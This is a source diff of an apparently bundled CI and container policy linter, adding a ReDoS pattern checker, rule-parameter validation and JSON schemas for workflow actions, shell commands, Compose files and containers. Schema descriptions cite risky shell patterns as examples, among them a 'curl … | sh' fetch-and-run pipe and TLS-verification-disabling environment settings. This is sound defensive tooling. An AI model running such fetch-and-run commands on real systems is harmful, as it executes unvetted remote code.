+        continue;
+      }
+      chars.add(char);
+    }
+    if (this.source[this.at++] !== "]") throw new Error("unclosed [");
+    return any || chars.size > MAX_CLASS ? "any" : chars;
+  }
+  quantifier() {
+    const char = this.source[this.at];
+    let bounds;
+    if (char === "*") bounds = [0, Infinity];
+    else if (char === "+") bounds = [1, Infinity];
+    else if (char === "?") bounds = [0, 1];
+    if (bounds) this.at++;
+    else if (char === "{") {
+      const match = /^\{(\d+)(,(\d*))?\}/.exec(this.source.slice(this.at));
+      if (!match) return [1, 1];
+      this.at += match[0].length;
+      const min = Number(match[1]);
+      bounds = [min, match[2] === void 0 ? min : match[3] === "" ? Infinity : Number(match[3])];
+    } else return [1, 1];
+    if (this.source[this.at] === "?") this.at++;
+    return bounds;
+  }
+};
+function classEscape(char) {
+  switch (char) {
+    case "d":
+      return DIGITS;
+    case "w":
+      return WORD;
+    case "s":
+      return SPACE;
+    case "D":
+    case "W":
+    case "S":
+      return "any";
+    default:
+      return void 0;
+  }
+}
+function controlEscape(char) {
+  return { n: "\n", r: "\r", t: "	", f: "\f", v: "\v" }[char] ?? char;
+}
+function union(a, b) {
+  if (a === "any" || b === "any") return "any";
+  return /* @__PURE__ */ new Set([...a, ...b]);
+}
+function overlaps(a, b) {
+  if (a === "any") return b === "any" || b.size > 0;
+  if (b === "any") return a.size > 0;
+  for (const char of a) if (b.has(char)) return true;
+  return false;
+}
+function analyze(node) {
+  if (node.type === "assertion") return { unbounded: false, delimited: true, nullable: true, first: /* @__PURE__ */ new Set() };
+  if (node.type === "atom") return { unbounded: false, delimited: true, nullable: false, first: node.first };
+  let unbounded = false;
+  let delimited = true;
+  let nullable = false;
+  let first = /* @__PURE__ */ new Set();
+  const branchFirsts = [];
+  for (const branch of node.branches) {
+    const facts = sequence(branch);
+    if (facts.problem) return facts;
+    unbounded ||= facts.unbounded;
+    delimited &&= facts.delimited;
+    nullable ||= facts.nullable;
+    first = union(first, facts.first);
+    branchFirsts.push(facts.first);
+  }
+  return { unbounded, delimited, nullable, first, branchFirsts };
+}
+function sequence(items) {
+  let unbounded = false;
+  let delimited = true;
+  let nullable = true;
+  let first = /* @__PURE__ */ new Set();
+  for (const item of items) {
+    const facts = analyze(item.node);
+    if (facts.problem) return facts;
+    if (item.max === Infinity && item.node.type === "group") {
+      if (facts.unbounded && !facts.delimited) return { ...facts, problem: "a repeated group holds a repetition of its own (nested quantifiers)" };
+      const branches = facts.branchFirsts ?? [];
+      for (let i = 0; i < branches.length; i++) {
+        for (let j = i + 1; j < branches.length; j++) {
+          if (overlaps(branches[i], branches[j])) return { ...facts, problem: "a repeated alternation has branches that can match the same text" };
+        }
+      }
+    }
+    const varies = item.max === Infinity || item.max > 1 && item.min < item.max;
+    unbounded ||= facts.unbounded || varies;
+    if (varies) {
+      const next = items[items.indexOf(item) + 1];
+      delimited &&= item.node.type === "atom" && next?.node.type === "atom" && next.min >= 1 && !overlaps(next.node.first, item.node.first);
+    } else delimited &&= facts.delimited;
+    if (nullable) first = union(first, facts.first);
+    nullable &&= facts.nullable || item.min === 0;
+  }
+  return { unbounded, delimited, nullable, first };
+}
+function schemaPatterns(schema, pointer = "") {
+  const found = [];
+  const visit2 = (value, at) => {
+    if (Array.isArray(value)) {
+      for (const [index, item] of value.entries()) visit2(item, `${at}/${index}`);
+      return;
+    }
+    if (value === null || typeof value !== "object") return;
+    for (const [key, child2] of Object.entries(value)) {
+      const childAt = `${at}/${key.replace(/~/g, "~0").replace(/\//g, "~1")}`;
+      if (key === "pattern" && typeof child2 === "string") found.push({ pattern: child2, pointer: childAt });
+      if (key === "patternProperties" && child2 !== null && typeof child2 === "object") {
+        for (const name of Object.keys(child2)) found.push({ pattern: name, pointer: `${childAt}/${name.replace(/~/g, "~0").replace(/\//g, "~1")}` });
+      }
+      visit2(child2, childAt);
+    }
+  };
+  visit2(schema, pointer);
+  return found;
+}
+
+// src/policy/check-rule-schema.ts
+function ruleSchemaProblem(schema, field2) {
+  try {
+    compileOnce(schema);
+  } catch (error2) {
+    return { pointer: `/${field2}`, message: `"${field2}" is not a valid JSON Schema: ${error2.message}` };
+  }
+  for (const { pattern, pointer } of schemaPatterns(schema, `/${field2}`)) {
+    const reason = unsafePatternReason(pattern);
+    if (reason) {
+      return {
+        pointer,
+        message: `The pattern ${JSON.stringify(pattern)} can take exponential time on a crafted value (${reason}). Rewrite it without a repetition inside a repeated group, e.g. "(a+)+" as "a+".`
+      };
+    }
+  }
+  return void 0;
+}
+
+// src/policy/closest-name.ts
+function closestName(name, candidates) {
+  let best;
+  let bestDistance = Math.max(1, Math.floor(name.length / 3)) + 1;
+  for (const candidate of candidates) {
+    const distance = editDistance(name.toLowerCase(), candidate.toLowerCase());
+    if (distance < bestDistance) {
+      best = candidate;
+      bestDistance = distance;
+    }
+  }
+  return best;
+}
+function editDistance(a, b) {
+  const rows = [Array.from({ length: b.length + 1 }, (_, j) => j)];
+  for (let i = 1; i <= a.length; i++) {
+    const row2 = [i];
+    for (let j = 1; j <= b.length; j++) {
+      const cost = a[i - 1] === b[j - 1] ? 0 : 1;
+      row2[j] = Math.min(rows[i - 1][j] + 1, row2[j - 1] + 1, rows[i - 1][j - 1] + cost);
+      if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1]) row2[j] = Math.min(row2[j], rows[i - 2][j - 2] + 1);
+    }
+    rows.push(row2);
+  }
+  return rows[a.length][b.length];
+}
+
 // src/policy/params.ts
 function substituteParams(schema, params, missing = /* @__PURE__ */ new Set()) {
   if (Array.isArray(schema)) return schema.map((item) => substituteParams(item, params, missing));
@@ -55588,6 +55978,46 @@ function substituteParams(schema, params, missing = /* @__PURE__ */ new Set()) {
   for (const key of keys) out[key] = substituteParams(record4[key], params, missing);
   if (Array.isArray(out["enum"]) && out["enum"].length === 0) return false;
   return out;
+}
+function paramProblems(rule, given) {
+  const declared = rule.paramSchemas ?? {};
+  const names = Object.keys(declared);
+  const problems = [];
+  for (const [name, value] of Object.entries(given)) {
+    const spec = declared[name];
+    if (!spec) {
+      const near = closestName(name, names);
+      const takes = names.length ? `it takes ${names.map((n) => `"${n}"`).join(", ")}` : "it takes no params";
+      problems.push({ pointer: `/${escapeSegment(name)}`, message: `${rule.id} has no param "${name}"${near ? `; did you mean "${near}"?` : ""} (${takes}).` });
+      continue;
+    }
+    const validate = compileOnce(spec.schema);
+    if (!validate(value)) {
+      const error2 = validate.errors?.[0];
+      const at = error2?.instancePath ?? "";
+      const where2 = `${name}${at.replace(/\//g, ".")}`;
+      problems.push({ pointer: `/${escapeSegment(name)}${at}`, message: `"${where2}" ${error2?.message ?? "is not valid"}, got ${describe(valueAtPointer(value, at))}. Expected: ${spec.description}` });
+    }
+  }
+  if (problems.length) return problems;
+  for (const [name, value] of Object.entries(given)) {
+    for (const field2 of ["schema", "when"]) {
+      const schema = rule[field2];
+      if (schema === void 0) continue;
+      const problem2 = ruleSchemaProblem(substituteParams(schema, { ...rule.params, [name]: value }), field2);
+      if (problem2) {
+        problems.push({ pointer: `/${escapeSegment(name)}`, message: `this value makes ${rule.id} unusable: ${problem2.message.replace(/^"(schema|when)" is not a valid JSON Schema: /, "")}` });
+        break;
+      }
+    }
+  }
+  return problems;
+}
+function describe(value) {
+  const json = JSON.stringify(value) ?? String(value);
+  const shown = json.length > 60 ? `${json.slice(0, 57)}...` : json;
+  const kind = value === null ? "null" : Array.isArray(value) ? "a list" : typeof value === "object" ? "a map" : `a ${typeof value}`;
+  return `${kind} (${shown})`;
 }
 
 // src/engine/fingerprint.ts
@@ -55774,8 +56204,8 @@ var PROBLEM_RULE_BY_ID = new Map(PROBLEM_RULES.map((rule) => [rule.id, rule]));
 function evaluate(documents, rules) {
   const byType = /* @__PURE__ */ new Map();
   for (const compiled2 of rules) {
-    const list2 = byType.get(compiled2.rule.subject);
-    if (list2) list2.push(compiled2);
+    const list3 = byType.get(compiled2.rule.subject);
+    if (list3) list3.push(compiled2);
     else byType.set(compiled2.rule.subject, [compiled2]);
   }
   const findings = [];
@@ -68643,7 +69073,7 @@ function aboutUnknown(error2, pointer, unknown) {
 }
 function castErrorMessage(pointer, text2, cast) {
   const expected = cast === "bool" ? "`true` or `false`" : cast === "int" ? "a whole number" : "a number";
-  return `${show2(pointer)} must be ${expected}, but is ${describe(text2)}; Compose converts this value after interpolation and refuses the file. Write ${expected} (or a variable that holds one).`;
+  return `${show2(pointer)} must be ${expected}, but is ${describe2(text2)}; Compose converts this value after interpolation and refuses the file. Write ${expected} (or a variable that holds one).`;
 }
 function pointerOf(error2) {
   const extra = error2.keyword === "additionalProperties" ? error2.params["additionalProperty"] : void 0;
@@ -68652,7 +69082,7 @@ function pointerOf(error2) {
 function messageFor(pointer, group2, data) {
   const where2 = show2(pointer);
   const specific = group2.find((error2) => !BRANCH.has(error2.keyword)) ?? group2.find((error2) => error2.keyword !== "oneOf" && error2.keyword !== "anyOf") ?? group2[0];
-  const value = describe(data);
+  const value = describe2(data);
   const refuses = "so Compose refuses this file.";
   switch (specific.keyword) {
     case "additionalProperties": {
@@ -68700,7 +69130,7 @@ function orList(items) {
   if (items.length <= 1) return items[0] ?? "something else";
   return `${items.slice(0, -1).join(", ")} or ${items.at(-1)}`;
 }
-function describe(value) {
+function describe2(value) {
   if (value === void 0) return "missing";
   if (value === null) return "empty";
   if (Array.isArray(value)) return "a list";
@@ -68797,7 +69227,7 @@ function readYaml(text2) {
     keepSourceTokens: false,
     prettyErrors: true
   });
-  const list2 = Array.isArray(docs) ? docs : [docs];
+  const list3 = Array.isArray(docs) ? docs : [docs];
   const problems = [];
   const lines = new LineIndex(text2);
   const at = (offset, end = offset) => rangeAt(text2, lines, offset, end);
@@ -68808,7 +69238,7 @@ function readYaml(text2) {
     const problem2 = { ruleId: "parse-error", message: "This file is binary (it contains NUL bytes), not YAML, so it was not checked.", range: range2 };
     return { value: null, values: [null], problems: [problem2], broken: true, locate: () => range2 };
   }
-  for (const doc of list2) {
+  for (const doc of list3) {
     let tooDeep = false;
     for (const error2 of doc.errors) {
       broken = true;
@@ -68843,7 +69273,7 @@ function readYaml(text2) {
     }
   }
   const locate = (pointer, lineOffset, index = 0) => {
-    const doc = list2[index] ?? list2[0];
+    const doc = list3[index] ?? list3[0];
     if (!doc?.contents) return at(0);
     const found = walk(doc, parsePointer(pointer));
     return rangeOf(found, text2, at, lines, lineOffset);
@@ -69321,13 +69751,13 @@ function shellTokens(text2, options = {}) {
   guarded += text2.slice(at);
   if (options.literalBackslash) guarded = guarded.replace(/\\/g, "\\\\");
   const restore = (word) => word.replace(PLACEHOLDER, (placeholder, index) => kept2[Number(index)] ?? placeholder);
-  let entries;
+  let entries2;
   try {
-    entries = (0, import_shell_quote.parse)(guarded, (name) => /^\w+$/.test(name) ? `$${name}` : `\${${name}}`);
+    entries2 = (0, import_shell_quote.parse)(guarded, (name) => /^\w+$/.test(name) ? `$${name}` : `\${${name}}`);
   } catch {
-    entries = guarded.split(/\s+/).filter((word) => word !== "");
+    entries2 = guarded.split(/\s+/).filter((word) => word !== "");
   }
-  return entries.map((entry) => {
+  return entries2.map((entry) => {
     if (typeof entry === "string") return restore(entry);
     if ("op" in entry && entry.op === "glob") return { op: "glob", pattern: restore(entry.pattern) };
     return entry;
@@ -70518,8 +70948,8 @@ function stringMap(value) {
   return out;
 }
 function stringList(value) {
-  const list2 = Array.isArray(value) ? value : value === void 0 || value === null ? [] : [value];
-  return list2.flatMap((entry) => scalarText(entry) ?? []);
+  const list3 = Array.isArray(value) ? value : value === void 0 || value === null ? [] : [value];
+  return list3.flatMap((entry) => scalarText(entry) ?? []);
 }
 
 // src/documents/workflow-containers.ts
@@ -70581,9 +71011,9 @@ function fromMap(raw, pointer, origin) {
   }
   const listed = emptyContainerSpec(origin);
   for (const [key, flag] of [["ports", "publish"], ["volumes", "volume"]]) {
-    const entries = raw[key];
-    if (!Array.isArray(entries)) continue;
-    entries.forEach((entry, index) => {
+    const entries2 = raw[key];
+    if (!Array.isArray(entries2)) continue;
+    entries2.forEach((entry, index) => {
       const text2 = scalarText(entry);
       const before = listed[key].length;
       if (text2 !== void 0) applyFlag(listed, flag, text2);
@@ -70953,8 +71383,8 @@ function isPrHeadCheckout(command) {
   return command.name === "git" && ["fetch", "checkout", "switch", "pull", "reset"].includes(first ?? "") && command.args.some(namesPrHead);
 }
 function collectFiles(docker, cwd, facts) {
-  const add = (list2, path6) => {
-    if (!list2.includes(path6)) list2.push(path6);
+  const add = (list3, path6) => {
+    if (!list3.includes(path6)) list3.push(path6);
   };
   if (docker.subcommand === "build") {
     const [file] = docker.flags["file"] ?? [];
@@ -71622,10 +72052,10 @@ var LinkState = class {
   update(subject, patch) {
     const current = this.latest(subject);
     const next = { ...current, ...patch };
-    const list2 = [...this.subjectsOf(current.document)];
-    const index = list2.indexOf(current);
-    if (index >= 0) list2[index] = next;
-    this.#subjects.set(current.document, list2);
+    const list3 = [...this.subjectsOf(current.document)];
+    const index = list3.indexOf(current);
+    if (index >= 0) list3[index] = next;
+    this.#subjects.set(current.document, list3);
     this.#latest.set(subject, next);
     if (current !== subject) this.#latest.set(current, next);
     return next;
@@ -71712,9 +72142,9 @@ function existingComposeFiles(path6, byPath) {
 }
 function addEvidence(state, subject, evidence) {
   if (!subject) return;
-  const list2 = state.latest(subject).evidence ?? [];
-  if (list2.some((e) => e.document === evidence.document && e.pointer === evidence.pointer && e.message === evidence.message)) return;
-  state.update(subject, { evidence: [...list2, evidence] });
+  const list3 = state.latest(subject).evidence ?? [];
+  if (list3.some((e) => e.document === evidence.document && e.pointer === evidence.pointer && e.message === evidence.message)) return;
+  state.update(subject, { evidence: [...list3, evidence] });
 }
 function unique(paths) {
   return [...new Set(paths)];
@@ -71738,238 +72168,824 @@ function formatLoadError(error2) {
   return `${error2.file}:${error2.line}:${error2.column}: ${error2.message}`;
 }
 
-// src/policy/regex-safety.ts
-function unsafePatternReason(source) {
-  let tree;
-  try {
-    tree = new Parser(source).parse();
-  } catch {
-    return void 0;
-  }
-  return analyze(tree).problem;
-}
-var range = (from, to) => Array.from({ length: to - from + 1 }, (_, i) => String.fromCharCode(from + i));
-var DIGITS = new Set(range(48, 57));
-var WORD = /* @__PURE__ */ new Set([...range(48, 57), ...range(65, 90), ...range(97, 122), "_"]);
-var SPACE = /* @__PURE__ */ new Set([" ", "	", "\n", "\r", "\f", "\v"]);
-var MAX_CLASS = 512;
-var Parser = class {
-  constructor(source) {
-    this.source = source;
-  }
-  source;
-  at = 0;
-  parse() {
-    const group2 = this.alternation();
-    if (this.at < this.source.length) throw new Error("unbalanced )");
-    return group2;
-  }
-  alternation() {
-    const branches = [this.sequence()];
-    while (this.source[this.at] === "|") {
-      this.at++;
-      branches.push(this.sequence());
+// src/subjects/schemas/action-ref.schema.json
+var action_ref_schema_default = {
+  $schema: "https://json-schema.org/draft/2020-12/schema",
+  $id: "https://containment.dev/schemas/subjects/action-ref.json",
+  title: "action-ref",
+  description: "A `uses:` reference, read the way GitHub resolves it: `owner/repo[/path]@ref`, `./path` in the same repository, or `docker://image`. Comes from every step's `uses:` in a workflow or composite `action.yml`, and every job's `uses:` (a reusable workflow).",
+  type: "object",
+  additionalProperties: false,
+  required: ["uses", "isSha", "isLocal", "isDocker", "isWorkflow"],
+  properties: {
+    uses: {
+      description: "The reference as written, trimmed (`actions/checkout@v4`, `./.github/actions/setup`, `docker://alpine:3.20`).",
+      type: "string"
+    },
+    owner: {
+      description: "The owner (user or organization) of a repository reference. Absent for local and `docker://` references.",
+      type: "string"
+    },
+    repo: {
+      description: "The repository name. Absent for local and `docker://` references, or when none is written.",
+      type: "string"
+    },
+    path: {
+      description: "The path inside the repository (`github/codeql-action/upload-sarif@v3` \u2192 `upload-sarif`; a reusable workflow's `.github/workflows/x.yml`), or for a local reference the path after `./`. Absent when there is none and for `docker://`.",
+      type: "string"
+    },
+    ref: {
+      description: "What follows `@`: a tag, branch or commit SHA, as written. Absent when no `@ref` is written, and for local and `docker://` references.",
+      type: "string"
+    },
+    isSha: {
+      description: "Pinned to a full 40-hex-digit commit SHA, the only immutable pin (a tag or branch can be moved under the workflow).",
+      type: "boolean"
+    },
+    isLocal: {
+      description: "A `./path` (or `.\\path`) reference to an action or workflow in the same repository.",
+      type: "boolean"
+    },
+    isDocker: {
+      description: "A `docker://image` reference, which runs that image directly (it also becomes an `image` subject with origin `docker-action`).",
+      type: "boolean"
+    },
+    isWorkflow: {
+      description: "A job's `uses:`: a reusable workflow (`owner/repo/.github/workflows/x.yml@ref`) called by the job, rather than a step's action.",
+      type: "boolean"
     }
-    return { type: "group", branches };
-  }
-  sequence() {
-    const items = [];
-    while (this.at < this.source.length && this.source[this.at] !== "|" && this.source[this.at] !== ")") {
-      const node = this.atom();
-      const [min, max] = this.quantifier();
-      items.push({ node, min, max });
-    }
-    return items;
-  }
-  atom() {
-    const char = this.source[this.at++];
-    switch (char) {
-      case "^":
-      case "$":
-        return { type: "assertion" };
-      case ".":
-        return { type: "atom", first: "any" };
-      case "[":
-        return { type: "atom", first: this.characterClass() };
-      case "(": {
-        let lookaround = false;
-        if (this.source[this.at] === "?") {
-          const rest = this.source.slice(this.at, this.at + 4);
-          if (rest.startsWith("?:")) this.at += 2;
-          else if (/^\?<?[=!]/.test(rest)) {
-            lookaround = true;
-            this.at += rest[1] === "<" ? 3 : 2;
-          } else if (rest.startsWith("?<")) this.at = this.source.indexOf(">", this.at) + 1;
-        }
-        const group2 = this.alternation();
-        if (this.source[this.at++] !== ")") throw new Error("unclosed (");
-        return lookaround ? { type: "assertion" } : group2;
-      }
-      case "\\":
-        return this.escape();
-      default:
-        return { type: "atom", first: /* @__PURE__ */ new Set([char]) };
-    }
-  }
-  escape() {
-    const char = this.source[this.at++] ?? "";
-    if (char === "b" || char === "B") return { type: "assertion" };
-    const known = classEscape(char);
-    if (known) return { type: "atom", first: known };
-    if (char === "u" || char === "x" || char === "p" || char === "P" || char === "k" || /\d/.test(char)) {
-      if (this.source[this.at] === "{") this.at = this.source.indexOf("}", this.at) + 1;
-      else if (this.source[this.at] === "<") this.at = this.source.indexOf(">", this.at) + 1;
-      else while (/[0-9a-fA-F]/.test(this.source[this.at] ?? "")) this.at++;
-      return { type: "atom", first: "any" };
-    }
-    return { type: "atom", first: /* @__PURE__ */ new Set([controlEscape(char)]) };
-  }
-  characterClass() {
-    const negated = this.source[this.at] === "^";
-    if (negated) this.at++;
-    const chars = /* @__PURE__ */ new Set();
-    let any = negated;
-    let first = true;
-    while (this.at < this.source.length && (this.source[this.at] !== "]" || first)) {
-      first = false;
-      const char = this.source[this.at++];
-      if (char === "\\") {
-        const escaped = this.source[this.at++] ?? "";
-        const known = classEscape(escaped);
-        if (known === "any") any = true;
-        else if (known) for (const c of known) chars.add(c);
-        else if (/[uxpPdDwWsS0-9]/.test(escaped)) any = true;
-        else chars.add(controlEscape(escaped));
-        continue;
-      }
-      if (this.source[this.at] === "-" && this.source[this.at + 1] !== "]" && this.at + 1 < this.source.length) {
-        let to = this.source[this.at + 1];
-        this.at += 2;
-        if (to === "\\") to = controlEscape(this.source[this.at++] ?? "");
-        const [a, b] = [char.charCodeAt(0), to.charCodeAt(0)];
-        if (b - a > MAX_CLASS) any = true;
-        else for (const c of range(a, b)) chars.add(c);
-        continue;
-      }
-      chars.add(char);
-    }
-    if (this.source[this.at++] !== "]") throw new Error("unclosed [");
-    return any || chars.size > MAX_CLASS ? "any" : chars;
-  }
-  quantifier() {
-    const char = this.source[this.at];
-    let bounds;
-    if (char === "*") bounds = [0, Infinity];
-    else if (char === "+") bounds = [1, Infinity];
-    else if (char === "?") bounds = [0, 1];
-    if (bounds) this.at++;
-    else if (char === "{") {
-      const match = /^\{(\d+)(,(\d*))?\}/.exec(this.source.slice(this.at));
-      if (!match) return [1, 1];
-      this.at += match[0].length;
-      const min = Number(match[1]);
-      bounds = [min, match[2] === void 0 ? min : match[3] === "" ? Infinity : Number(match[3])];
-    } else return [1, 1];
-    if (this.source[this.at] === "?") this.at++;
-    return bounds;
   }
 };
-function classEscape(char) {
-  switch (char) {
-    case "d":
-      return DIGITS;
-    case "w":
-      return WORD;
-    case "s":
-      return SPACE;
-    case "D":
-    case "W":
-    case "S":
-      return "any";
-    default:
-      return void 0;
-  }
-}
-function controlEscape(char) {
-  return { n: "\n", r: "\r", t: "	", f: "\f", v: "\v" }[char] ?? char;
-}
-function union(a, b) {
-  if (a === "any" || b === "any") return "any";
-  return /* @__PURE__ */ new Set([...a, ...b]);
-}
-function overlaps(a, b) {
-  if (a === "any") return b === "any" || b.size > 0;
-  if (b === "any") return a.size > 0;
-  for (const char of a) if (b.has(char)) return true;
-  return false;
-}
-function analyze(node) {
-  if (node.type === "assertion") return { unbounded: false, delimited: true, nullable: true, first: /* @__PURE__ */ new Set() };
-  if (node.type === "atom") return { unbounded: false, delimited: true, nullable: false, first: node.first };
-  let unbounded = false;
-  let delimited = true;
-  let nullable = false;
-  let first = /* @__PURE__ */ new Set();
-  const branchFirsts = [];
-  for (const branch of node.branches) {
-    const facts = sequence(branch);
-    if (facts.problem) return facts;
-    unbounded ||= facts.unbounded;
-    delimited &&= facts.delimited;
-    nullable ||= facts.nullable;
-    first = union(first, facts.first);
-    branchFirsts.push(facts.first);
-  }
-  return { unbounded, delimited, nullable, first, branchFirsts };
-}
-function sequence(items) {
-  let unbounded = false;
-  let delimited = true;
-  let nullable = true;
-  let first = /* @__PURE__ */ new Set();
-  for (const item of items) {
-    const facts = analyze(item.node);
-    if (facts.problem) return facts;
-    if (item.max === Infinity && item.node.type === "group") {
-      if (facts.unbounded && !facts.delimited) return { ...facts, problem: "a repeated group holds a repetition of its own (nested quantifiers)" };
-      const branches = facts.branchFirsts ?? [];
-      for (let i = 0; i < branches.length; i++) {
-        for (let j = i + 1; j < branches.length; j++) {
-          if (overlaps(branches[i], branches[j])) return { ...facts, problem: "a repeated alternation has branches that can match the same text" };
+
+// src/subjects/schemas/command.schema.json
+var command_schema_default = {
+  $schema: "https://json-schema.org/draft/2020-12/schema",
+  $id: "https://containment.dev/schemas/subjects/command.json",
+  title: "command",
+  description: "One simple command of a shell script, split at `&&`, `||`, `;`, `&`, `|`, newlines and subshell parentheses, and found inside `$( \u2026 )` and backticks too. Comes from every Dockerfile `RUN` (shell form, exec form and heredocs) and every `run:` script of a workflow step or composite action step whose shell is a POSIX shell (not `pwsh`, `powershell`, `cmd` or `python`, nor the default shell of a Windows runner). Variables are left as written: the environment is not known. Each command is located on its own line inside a multi-line `RUN` or `run: |` block.",
+  type: "object",
+  additionalProperties: false,
+  required: ["name", "args", "sudo", "origin"],
+  properties: {
+    name: {
+      description: "The program, as written (`curl`, `/usr/bin/apt-get`, `./configure`), after leading `VAR=value` assignments, wrappers (`env`, `nohup`, `exec`, `command`) and a leading `sudo` with its options are taken off. Compound-command keywords (`if`, `then`, `do`, `!`, \u2026) are skipped; `for`, `case`, `fi` and the like are no commands.",
+      type: "string"
+    },
+    args: {
+      description: "The words after the program, with shell quoting removed, variables and `${{ }}` expressions left as written. Redirections (`> file`, `2>&1`) are not included.",
+      type: "array",
+      items: { type: "string" }
+    },
+    pipedTo: {
+      description: "The program this command's output is piped into (`curl -fsSL \u2026 | sh` \u2192 `sh` on the `curl` command). Absent when the output is not piped.",
+      type: "string"
+    },
+    sudo: {
+      description: "The command is run through `sudo`.",
+      type: "boolean"
+    },
+    origin: {
+      description: "Where the script is written: `dockerfile` (a `RUN`), `workflow` (a workflow step's `run:`) or `action` (a composite action step's `run:`).",
+      enum: ["dockerfile", "workflow", "action"]
+    },
+    env: {
+      description: "`VAR=value` assignments written before the program (`DOCKER_HOST=tcp://x:2375 docker ps`, `NODE_TLS_REJECT_UNAUTHORIZED=0 npm ci`), values as written. Absent when there are none.",
+      type: "object",
+      additionalProperties: { type: "string" }
+    },
+    docker: {
+      description: 'For a `docker \u2026` or `docker-compose \u2026` command in a workflow or action `run:` script: the command line read with the docker CLI\'s grammar. Absent for every other program, and for Dockerfile `RUN` commands (origin `dockerfile`), which are not read this way today. Flag names are canonical long names without dashes (`-v` \u2192 `volume`, `-u` \u2192 `user`, `-p` \u2192 `publish` for `run` and `password` for `login`); each flag maps to its values in order, `"true"` for a boolean written bare; values as written, so a rule can tell `${{ secrets.X }}` or `$VAR` from a literal.',
+      type: "object",
+      additionalProperties: false,
+      required: ["subcommand", "globalFlags", "flags"],
+      properties: {
+        subcommand: {
+          description: "The command, management prefixes dropped: `docker container run` \u2192 `run`, `docker image build` and `docker buildx build` \u2192 `build`, `docker compose \u2026` and `docker-compose \u2026` \u2192 `compose`; other commands as written (`ps`, `push`, `login`). The empty string for a bare `docker` with only global options.",
+          type: "string"
+        },
+        globalFlags: {
+          description: "Options written before the command (`-H`/`--host` \u2192 `host`, `--context`, `--tls`, `--tlsverify`), by canonical name. Empty when there are none (always empty for `docker-compose`).",
+          type: "object",
+          additionalProperties: { type: "array", items: { type: "string" } }
+        },
+        flags: {
+          description: "The command's own flags, parsed for `run`, `create`, `exec`, `login`, `build` and `compose` (for `compose`, both its own flags such as `file` and `project-directory` and those of its command, such as `privileged` for `compose exec`). Empty for other commands.",
+          type: "object",
+          additionalProperties: { type: "array", items: { type: "string" } }
+        },
+        image: {
+          description: "`run` / `create`: the image as written, even when it is a variable. Absent for other commands or when none is written.",
+          type: "string"
+        },
+        container: {
+          description: "`exec`: the container name or id as written. Absent otherwise.",
+          type: "string"
+        },
+        registry: {
+          description: "`login`: the registry server as written. Absent for Docker Hub (none written) and other commands.",
+          type: "string"
+        },
+        context: {
+          description: "`build`: the build context as written (`.`, `app`, `-` for standard input, a Git URL). Absent otherwise.",
+          type: "string"
+        },
+        composeCommand: {
+          description: "`compose`: its command (`up`, `run`, `exec`, `build`, `down`, \u2026). Absent when none is written and for other commands.",
+          type: "string"
         }
       }
     }
-    const varies = item.max === Infinity || item.max > 1 && item.min < item.max;
-    unbounded ||= facts.unbounded || varies;
-    if (varies) {
-      const next = items[items.indexOf(item) + 1];
-      delimited &&= item.node.type === "atom" && next?.node.type === "atom" && next.min >= 1 && !overlaps(next.node.first, item.node.first);
-    } else delimited &&= facts.delimited;
-    if (nullable) first = union(first, facts.first);
-    nullable &&= facts.nullable || item.min === 0;
   }
-  return { unbounded, delimited, nullable, first };
-}
-function schemaPatterns(schema, pointer = "") {
-  const found = [];
-  const visit2 = (value, at) => {
-    if (Array.isArray(value)) {
-      for (const [index, item] of value.entries()) visit2(item, `${at}/${index}`);
-      return;
+};
+
+// src/subjects/schemas/compose.schema.json
+var compose_schema_default = {
+  $schema: "https://json-schema.org/draft/2020-12/schema",
+  $id: "https://containment.dev/schemas/subjects/compose.json",
+  title: "compose",
+  description: "A Compose file's top level. Comes from every file named like a Compose file (`compose.yaml`, `compose.*.yaml`, `docker-compose*.yml`, \u2026) that is a YAML mapping, after interpolation with the `.env` file beside it. Each service is a `container` subject (and an `image` subject when it pulls one); this subject holds what is defined for the whole project. Values that stay unknown (an unresolved variable) are left out, and strings are converted where Compose converts them (`external: \"true\"` is `true`). A file that a workflow runs carries that workflow's step as evidence.",
+  type: "object",
+  additionalProperties: false,
+  required: ["services", "networks", "volumes", "secrets", "configs"],
+  properties: {
+    services: {
+      description: "The names of the services this file defines, in file order (an override file's own services included; the merged values are on the base file's `container` subjects).",
+      type: "array",
+      items: { type: "string" }
+    },
+    version: {
+      description: 'The obsolete top-level `version:` as a string (`"3.8"`). Absent when not written or unknown.',
+      type: "string"
+    },
+    networks: {
+      description: 'Top-level `networks:` by name, each definition as written after interpolation (normally a map such as `{ "driver": "bridge", "internal": true }`, or `null` for a bare name). Empty when none are defined.',
+      type: "object"
+    },
+    volumes: {
+      description: 'Top-level named `volumes:` by name, each definition as written after interpolation (normally a map such as `{ "driver_opts": { \u2026 } }`, or `null`). Empty when none are defined.',
+      type: "object"
+    },
+    secrets: {
+      description: 'Top-level `secrets:` by name, each definition as written after interpolation (normally `{ "file": "./secret.txt" }`, `{ "environment": "TOKEN" }` or `{ "external": true }`). Empty when none are defined.',
+      type: "object"
+    },
+    configs: {
+      description: 'Top-level `configs:` by name, each definition as written after interpolation (normally `{ "file": \u2026 }`, `{ "content": \u2026 }`, `{ "environment": \u2026 }` or `{ "external": true }`). Empty when none are defined.',
+      type: "object"
     }
-    if (value === null || typeof value !== "object") return;
-    for (const [key, child2] of Object.entries(value)) {
-      const childAt = `${at}/${key.replace(/~/g, "~0").replace(/\//g, "~1")}`;
-      if (key === "pattern" && typeof child2 === "string") found.push({ pattern: child2, pointer: childAt });
-      if (key === "patternProperties" && child2 !== null && typeof child2 === "object") {
-        for (const name of Object.keys(child2)) found.push({ pattern: name, pointer: `${childAt}/${name.replace(/~/g, "~0").replace(/\//g, "~1")}` });
+  }
+};
+
+// src/subjects/schemas/container.schema.json
+var container_schema_default = {
+  $schema: "https://json-schema.org/draft/2020-12/schema",
+  $id: "https://containment.dev/schemas/subjects/container.json",
+  title: "container",
+  description: "A container that something starts, described as a normalized Compose service whatever wrote it, so that one rule covers every place. Comes from Compose `services.<name>` (after `extends`, override files and the `build:` Dockerfile are merged in by the link stage), a workflow job's `jobs.<id>.container` and `jobs.<id>.services.<name>` (their `options:` read as `docker create` flags), and every `docker run` / `docker create` (also `docker container run|create`) in a workflow's or composite action's `run:` script. Conventions: a scalar that is unset or unknown (an unresolved `${VAR}`, a `${{ }}` expression, a shell `$VAR`) is absent, never guessed, so a rule never matches on it; lists and maps are always present, possibly empty; capability names are upper case without `CAP_`; `security_opt` entries are written `key=value`.",
+  type: "object",
+  additionalProperties: false,
+  required: ["origin", "cap_add", "cap_drop", "security_opt", "volumes", "ports", "devices", "environment", "secrets", "sysctls", "tmpfs"],
+  properties: {
